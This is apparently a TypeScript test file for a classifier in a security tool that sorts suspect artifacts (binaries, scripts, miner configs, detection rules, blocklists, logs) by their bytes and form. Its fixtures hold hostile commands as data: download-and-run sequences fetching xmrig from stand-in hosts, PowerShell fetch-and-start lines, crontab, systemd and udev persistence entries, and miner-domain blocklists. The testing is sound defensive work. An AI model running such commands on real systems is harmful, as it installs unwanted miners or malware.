import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { artifactKindSchema } from '../../model/artifact.ts';
import { classify } from './classify.ts';

const kindOf = (name: string, content: string | Uint8Array): string => {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content;
  return classify(name, bytes.subarray(0, 4096), bytes.length);
};
const minerConfig = '{\n  "autosave": true,\n  "pools": [{ "url": "pool.example:3333", "user": "x" }]\n}\n';
const prose =
  'Mining is the process by which new coins are made.\nMost people who mine join a pool and share what they earn.\n' +
  'A pool keeps a small part of the reward for itself.\n';
const hosts = Array.from({ length: 20 }, (_, i) => `0.0.0.0 miner${i}.example.com`).join('\n');

describe('classify reads formats by their first bytes', () => {
  it.each([
    [
      'an ELF program',
      Buffer.from('7f454c46020101000000000000000000 0300 3e00'.replaceAll(' ', ''), 'hex'),
      'executable',
    ],
    ['a core dump', Buffer.from('7f454c46020101000000000000000000 0400 3e00'.replaceAll(' ', ''), 'hex'), 'data'],
    ['a Windows program', Buffer.concat([Buffer.from('MZ\x90\0\x03'), Buffer.alloc(100)]), 'executable'],
    ['WebAssembly', Buffer.from('0061736d01000000', 'hex'), 'executable'],
    ['Mach-O', Buffer.from('cffaedfe07000001', 'hex'), 'executable'],
    ['a ZIP file', Buffer.from('504b030414000000', 'hex'), 'archive'],
    ['a tar file', Buffer.concat([Buffer.from('etc/passwd'), Buffer.alloc(247), Buffer.from('ustar\0')]), 'archive'],
    ['a pcap file', Buffer.from('d4c3b2a102000400', 'hex'), 'capture'],
    ['a pcapng file', Buffer.from('0a0d0d0a1c0000004d3c2b1a', 'hex'), 'capture'],
    ['SQLite', Buffer.from('SQLite format 3\0\x10\0'), 'database'],
    ['an event log', Buffer.from('ElfFile\0\0\0'), 'log'],
    ['a PDF', Buffer.from('%PDF-1.7\n'), 'document'],
    ['noise', Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 167 + 13) & 255)), 'data'],
  ])('%s', (_, bytes, kind) => {
    expect(kindOf('sample', bytes)).toBe(kind);
    expect(kindOf('readme.md', bytes)).toBe(kind);
  });

  it('takes a text that begins with MZ for a text', () => {
    expect(kindOf('names', `MZ is a pair of initials.\n${prose}`)).toBe('document');
  });
});

describe('classify reads texts by their form', () => {
  it.each([
    ['a script by its first line', 'run', '#!/bin/sh\ncurl -O http://x.example/a\n', 'script'],
    ['a script without one', 'run', 'cd /tmp\ncurl -O http://x.example/a\nchmod +x a\n./a &\n', 'script'],
    ['a batch file', 'run', '@echo off\r\nset A=1\r\nstart miner.exe\r\n', 'script'],
    [
      'PowerShell',
      'run',
      '$u = "http://x.example/a"\nInvoke-WebRequest $u -OutFile a.exe\nStart-Process a.exe\n',
      'script',
    ],
    ['PowerShell in UTF-16', 'run', Buffer.from('\ufeff$u = "a"\nStart-Process a.exe\n', 'utf16le'), 'script'],
    ['a JSON object', 'x', minerConfig, 'config'],
    ['JSON with comments', 'x', `/* pools */\n// mine\n${minerConfig}`, 'config'],
    ['JSON without its braces, as xmr-stak has it', 'x', '/* h */\n"pool_list" :\n[\n],\n', 'config'],
    ['a unit of systemd', 'x', '[Unit]\nDescription=a\n[Service]\nExecStart=/tmp/x -o p:1\n', 'config'],
    ['a crontab', 'x', '# m h\n*/5 * * * * /tmp/.x\n@reboot /tmp/.x\n', 'config'],
    ['YAML', 'x', 'version: "3"\nservices:\n  a:\n    image: b\n', 'config'],
    ['a YARA rule', 'x', 'import "pe"\nrule miner {\n  strings:\n    $a = "xmrig"\n  condition: $a\n}\n', 'rules'],
    ['a Sigma rule', 'x.yml', 'title: Miner\nlogsource:\n  product: linux\ndetection:\n  a: b\n', 'rules'],
    ['a Suricata rule', 'x', 'alert tcp any any -> any 3333 (msg:"miner"; sid:1;)\n', 'rules'],
    ['a Falco rule', 'x.yaml', '- rule: Miner\n  desc: a\n  condition: proc.name = xmrig\n', 'rules'],
    ['a rule of Elastic', 'x.toml', '[rule]\nname = "Miner"\nquery = "process.name : xmrig"\n', 'rules'],
    ['a STIX bundle', 'x', '{"type": "bundle", "id": "bundle--1", "objects": []}', 'database'],
    ['a MISP event', 'x', '{"Event": {"info": "miner", "Attribute": []}}', 'database'],
    ['indicators in JSON', 'x', '{"campaign": "a", "iocs": [{"type": "domain"}]}', 'database'],
    ['a notebook', 'x', '{"cells": [{"cell_type": "code", "source": []}], "nbformat": 4}', 'document'],
    ['a news feed', 'x', '<?xml version="1.0"?>\n<rss version="2.0"><channel></channel></rss>', 'document'],
    ['notes on a sample', 'x.txt', 'Family: XMRig\nC2: pool.example\nCmd: /tmp/x\n', 'document'],
    ['a letter', 'x', 'From: a@b.test\nTo: c@d.test\nSubject: hacked\n\n/tmp/x -o pool.test:1\n', 'document'],
    ['a table', 'x.csv', 'type,value\ndomain,pool.test\ncmd,"x -o a.test:1, b"\n', 'database'],
    ['a table of processes', 'x.csv', 'Node,CommandLine,ProcessId\npc,x -o a.test:1,77\n', 'log'],
    ['a policy', 'x.yaml', 'apiVersion: kyverno.io/v1\nkind: ClusterPolicy\n', 'rules'],
    ['a template of Nuclei', 'x.yaml', 'id: x\ninfo:\n  name: a\nhttp:\n  - matchers:\n', 'rules'],
    ['a search', 'x.kql', 'DeviceProcessEvents | where ProcessCommandLine has "xmrig"\n', 'rules'],
    ['snapshots of a test', 'x.snap', 'exports[`a`] = `\n xmrig\n`;\n', 'source-code'],
    ['a hosts file that blocks', 'x', hosts, 'blocklist'],
    ['an adblock list', 'x', hosts.replaceAll('0.0.0.0 ', '||').replaceAll('.com', '.com^$third-party'), 'blocklist'],
    ['a syslog', 'x', 'Jan  2 03:04:05 host cron[1]: x\nJan  2 03:04:06 host cron[1]: y\n', 'log'],
    ['an access log', 'x', '1.2.3.4 - - [10/Oct/2018:13:55:36 -0700] "GET / HTTP/1.0" 200 1\n', 'log'],
    ['an IIS log', 'x', '#Software: Microsoft Internet Information Services 6.0\n#Fields: date\n', 'log'],
    [
      'events in JSON',
      'eve.json',
      '{"timestamp":"2024-01-01T00:00:00","a":1}\n{"timestamp":"2024-01-01","a":2}\n',
      'log',
    ],
    ['a list of processes', 'ps.txt', 'USER   PID %CPU COMMAND\nroot     1  0.0 /sbin/init\n', 'log'],
    ['an SQL dump', 'x', '-- PostgreSQL database dump\nCREATE TABLE a (b text);\n', 'database'],
    ['a man page', 'x', '.TH MINERD 1\n.SH NAME\nminerd\n', 'document'],
    ['a page', 'x', '<!DOCTYPE html><html><script src="a.js"></script></html>', 'page'],
    ['a page without scripts', 'x', '<html><body><p>Mining</p></body></html>', 'document'],
    ['prose', 'x', prose, 'document'],
    ['a word list', 'words', 'a\naardvark\nmine\nminer\nmining\n', 'text'],
    ['code', 'main.go', 'package main\nfunc main() { println("stratum+tcp://") }\n', 'source-code'],
    ['nothing', 'x', '', 'text'],
  ])('%s', (_, name, content, kind) => expect(kindOf(name, content)).toBe(kind));
});

describe('a name excuses nothing', () => {
  it.each([
    ['a script named readme.md', 'readme.md', '#!/bin/bash\n./xmrig\n', 'script'],
    [
      'commands named readme.md',
      'readme.md',
      'cd /tmp\nwget http://x.example/xmrig\nchmod +x xmrig\n./xmrig\n',
      'script',
    ],
    ['commands named a.py', 'a.py', 'cd /tmp\nwget http://x.example/xmrig\n./xmrig\n', 'script'],
    ['a script marked as evidence', 'x', '#!/bin/sh\ndavylamp-evidence: 1\n./xmrig\n', 'script'],
    ['facts about a case, until the engine takes them', 'x', 'davylamp-evidence: 1\nfacts: []\n', 'config'],
    ['a configuration marked as evidence', 'x', minerConfig.replace('{', '{ "davylamp-evidence": 1,'), 'config'],
    ['a configuration named notes.txt', 'notes.txt', minerConfig, 'config'],
    ['a configuration named miner.yar', 'miner.yar', minerConfig, 'config'],
    ['a configuration with indicators in it', 'x', minerConfig.replace('{', '{ "iocs": [],'), 'config'],
    ['a configuration named a.py', 'a.py', minerConfig, 'config'],
    ['a unit of systemd named LICENSE', 'LICENSE', '[Service]\nExecStart=/tmp/x\n', 'config'],
    ['a script that opens like a list of hosts', 'hosts.sh', `${hosts}\n./xmrig\n`, 'script'],
    ['a script that holds a rule in a comment', 'x', '#!/bin/sh\n# rule a {\n# condition: true }\n./xmrig\n', 'script'],
    ['rules of udev, which run programs', '99-x.rules', 'ACTION=="add", RUN+="/tmp/.x"\n', 'text'],
  ])('%s', (_, name, content, kind) => expect(kindOf(name, content)).toBe(kind));

  it('keeps a README with some commands a document', () => {
    const readme = `# Tool\n\n${prose}\n\`\`\`sh\ncurl -O http://x.example/a\n\`\`\`\n${prose}`;
    expect(kindOf('README.md', readme)).toBe('document');
  });

  it('takes a page whose head shows no script for a page, since one may follow', () => {
    expect(kindOf('x', `<html><body>${'<p>text</p>'.repeat(1000)}`)).toBe('page');
  });
});

describe('classify is total', () => {
  it('gives a kind for any bytes, within a bound of time', () => {
    fc.assert(
      fc.property(fc.string(), fc.uint8Array({ maxLength: 5000 }), fc.nat(), (name, bytes, size) => {
        expect(artifactKindSchema.options).toContain(classify(name, bytes, size));
      }),
    );
  });

  it.each(['a', ' ', '[', '/*', 'rule x ', '1 ', 'a.', '"a":', '$a=', '* '])(
    'does not slow down on repetitions of %j',
    (piece) => {
      const bytes = Buffer.from(piece.repeat(4096).slice(0, 4096));
      const start = performance.now();
      for (let i = 0; i < 20; i++) classify('x', bytes, bytes.length);
      expect(performance.now() - start).toBeLessThan(400);
    },
  );
});

const lists = new URL('../../../../shared/intel-sources/', import.meta.url);
describe.skipIf(!existsSync(lists))('on published lists (skips where ../shared is absent)', () => {
  it.each(['nocoin/hosts.txt', 'nocoin/nocoin.txt', 'maltrail/crypto_mining.txt'])('%s is a blocklist', (file) => {
    expect(kindOf(file, readFileSync(new URL(file, lists)))).toBe('blocklist');
  });
});
